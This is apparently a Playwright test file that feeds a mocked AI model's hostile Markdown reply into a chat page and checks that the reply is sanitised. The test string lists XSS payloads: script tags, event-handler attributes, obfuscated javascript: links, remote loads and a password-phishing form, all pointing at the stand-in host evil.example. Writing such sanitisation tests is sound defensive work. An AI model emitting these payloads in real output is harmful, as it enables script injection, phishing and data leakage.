import { LLMock } from '@copilotkit/aimock'
import type { Page } from '@playwright/test'
import { askAndWait, bubbles } from './support/chat.ts'
import { expect, test as base } from './support/journey.ts'
import { expectSoundLook } from './support/look.ts'

/** A model's reply with everything that a page must not do. */
const hostileReply = `
# Your week <script>globalThis.taken = 1</script>

<script src="https://evil.example/a.js"></script>
<img src="https://evil.example/p.png" onerror="globalThis.taken = 2">
<svg onload="globalThis.taken = 3"><image href="https://evil.example/q.png"/></svg>
<iframe src="https://evil.example"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<style>@import url(https://evil.example/s.css); body { display: none }</style>
<link rel="stylesheet" href="https://evil.example/l.css"><meta http-equiv="refresh" content="0;url=https://evil.example">
<form action="https://evil.example"><input name="password"><button>Sign in again</button></form>
<a href="https://evil.example" onclick="globalThis.taken = 4">A thousand points</a>
<details open ontoggle="globalThis.taken = 5"><summary>More</summary></details>
<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/v.mp3" autoplay></audio>

![pixel](https://evil.example/i.png?q=records) ![other](//evil.example/j.gif) ![inline](data:image/svg+xml;base64,PHN2Zz4=)
[![linked](https://evil.example/k.png)](https://evil.example/k)

![by reference][pic]

[pic]: https://evil.example/r.png

[one](javascript:globalThis.taken=6) [two](JaVaScRiPt:globalThis.taken=7) [three](javascript&colon;globalThis.taken=8)
[four](java%0ascript:globalThis.taken=9) [five](data:text/html,<script>globalThis.taken=10</script>) [six](vbscript:x)
[seven](  javascript:globalThis.taken=11) [eight]( "onmouseover=globalThis.taken=12) [nine][ref] <javascript:globalThis.taken=13>
[file](file:///etc/passwd) [blob](blob:https://evil.example/1) [intent](intent://x#Intent;end) [mail](mailto:a@evil.example)
[odd](\\u0001javascript:globalThis.taken=14) [tab](java\tscript:globalThis.taken=15) [without](//evil.example/without)

[ref]: javascript:globalThis.taken=16

| Food | Picture |
|---|---|
| ![cell](https://evil.example/c.png) | <b onclick="taken = 17">bold</b> |

- [x] done <img src=x onerror=globalThis.taken=18>
- [ ] ${'unbroken'.repeat(60)}

\`\`\`html
<script>globalThis.taken = 19</script>
\`\`\`

A sound [page of the app](/wellness) and a sound [page elsewhere](https://example.com/advice).

The end of it.
`

const test = base.extend<object, { model: LLMock }>({
  model: [
    // oxlint-disable-next-line no-empty-pattern -- Playwright reads the fixtures a function needs from its pattern
    async ({}, provide) => {
      const model = await LLMock.create({ port: 0, host: '127.0.0.1', logLevel: 'silent', chunkSize: 7 })
      const usage = { prompt_tokens: 900, completion_tokens: 600 }
      model.on({ userMessage: 'week' }, { content: hostileReply, usage })
      model.on({ userMessage: 'Hello' }, { content: 'Good morning.', usage })
      await provide(model)
      await model.stop()
    },
    { scope: 'worker' },
  ],
  environment: [
    async ({ model }, provide) =>
      provide({
        AI_PROVIDER: 'openai-compatible',
        AI_MODEL: 'hostile',
        AI_BASE_URL: `${model.url}/v1`,
        AI_DAILY_TOKENS: '1000',
      }),
    { scope: 'worker' },
  ],
})

async function expectHarmless(page: Page) {
  const reply = bubbles(page).nth(1)
  await expect(reply.getByText('The end of it.')).toBeVisible()
  // Its headings are below the page's own level.
  await expect(reply.getByRole('heading', { level: 2 })).toHaveCount(1)
  await expect(reply.locator('h1, h3')).toHaveCount(0)
  await expect(
    reply.locator(
      'img, svg, image, picture, video, audio, iframe, object, embed, script, style, link, meta, form, button',
    ),
  ).toHaveCount(0)
  const handlers = await reply
    .locator('*')
    .evaluateAll((elements: { getAttributeNames: () => string[] }[]) =>
      elements.flatMap((element) => element.getAttributeNames().filter((name) => /^on|src/.test(name))),
    )
  expect(handlers).toEqual([])
  const links = await reply
    .locator('a')
    .evaluateAll((all) => all.map((link) => ({ href: link.getAttribute('href'), rel: link.getAttribute('rel') })))
  expect(links.length).toBeGreaterThan(3)
  for (const { href, rel } of links) {
    expect(rel).toContain('noopener')
    expect(new URL(href ?? 'none:', 'https://finu.example').protocol).toMatch(/^https?:$/)
  }
  await expect(reply.getByRole('link', { name: 'page of the app' })).toHaveAttribute('href', '/wellness')
  expect(await page.evaluate(() => 'taken' in globalThis)).toBe(false)
}

test('hostile Markdown loads nothing, runs nothing and makes no forbidden link', async ({ page, person }) => {
  page.on('dialog', (dialog) => {
    throw new Error(`a dialog: ${dialog.message()}`)
  })
  await page.goto('/assistant')
  await askAndWait(page, 'How was my week?')
  await expect(bubbles(page), person.name).toHaveCount(2)
  await expectHarmless(page)
  // The stored reply is as harmless when it is read again.
  await page.reload()
  await expectHarmless(page)
  await expectSoundLook(page, 'hostile reply')
})
